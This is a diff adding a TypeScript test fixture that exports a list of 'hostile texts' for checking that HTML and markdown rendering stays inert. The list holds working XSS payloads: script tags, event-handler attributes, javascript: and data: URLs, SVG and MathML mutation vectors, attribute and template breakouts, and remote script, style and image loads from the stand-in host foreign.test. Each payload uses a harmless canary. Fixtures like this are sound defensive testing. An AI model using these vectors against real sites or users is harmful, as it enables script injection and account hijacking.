@@ -1,0 +1,73 @@
+const run = 'globalThis.canary=1';
+
+const elements = [
+  `<script>${run}</script>`,
+  `<SCRIPT SRC=//foreign.test/canary.js></SCRIPT>`,
+  `</title><script>${run}//canary</script>`,
+  `</script><script>${run}//canary</script>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=x onerror="${run}" canary>`,
+  `<img src="https://foreign.test/canary.png">`,
+  `<image src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text>canary</text></a></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<math href="javascript:${run}">canary</math>`,
+  `<iframe src="javascript:parent.canary=1"></iframe>`,
+  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
+  `<iframe src="https://foreign.test/canary"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<video><source onerror="${run}"></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<body onload=${run}>`,
+  `<details open ontoggle=${run}>canary</details>`,
+  `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}>`,
+  `<textarea autofocus onfocus=${run}></textarea>`,
+  `<marquee onstart=${run}>canary</marquee>`,
+  `<div onpointerenter=${run} style="position:fixed;inset:0">canary</div>`,
+  `<a href="javascript:${run}">canary</a>`,
+  `<a href="jav&#x09;ascript:${run}">canary</a>`,
+  `<form action="javascript:${run}"><button>canary</button></form>`,
+  `<button formaction="javascript:${run}">canary</button>`,
+  `<base href="https://foreign.test/canary/">`,
+  `<link rel=stylesheet href="https://foreign.test/canary.css">`,
+  `<meta http-equiv="refresh" content="0;url=https://foreign.test/canary">`,
+  `<style>@import 'https://foreign.test/canary.css';</style>`,
+  `<style>*{background:url(https://foreign.test/canary)}</style>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<dialog open onclose=${run}>canary</dialog>`,
+];
+
+const breakouts = [
+  `"><script>${run}</script>`,
+  `'><img src=x onerror=${run}>`,
+  `" onmouseover="${run}" x="`,
+  `' autofocus onfocus='${run}' x='`,
+  `" style="background:url(https://foreign.test/canary)`,
+  `\`-globalThis.alert("canary")-\``,
+  `--><img src=x onerror=${run}><!--`,
+  `{{constructor.constructor("${run}")()}}`,
+  `\${alert("canary")}`,
+  `&lt;img src=x onerror=${run}&gt;`,
+];
+
+const markdown = [
+  `[canary](javascript:${run})`,
+  `[canary](JaVaScRiPt:${run})`,
+  `[canary](data:text/html,<script>${run}</script>)`,
+  `[canary](vbscript:canary)`,
+  `![canary](https://foreign.test/canary.png)`,
+  `![canary](x"onerror="${run})`,
+  `<javascript:${run}>`,
+  '```html\n<script>globalThis.canary=1</script>\n```',
+];
+
+/** Each does something that can be noticed as soon as it is taken for more than text. */
+export const hostileTexts: readonly string[] = [...elements, ...breakouts, ...markdown];
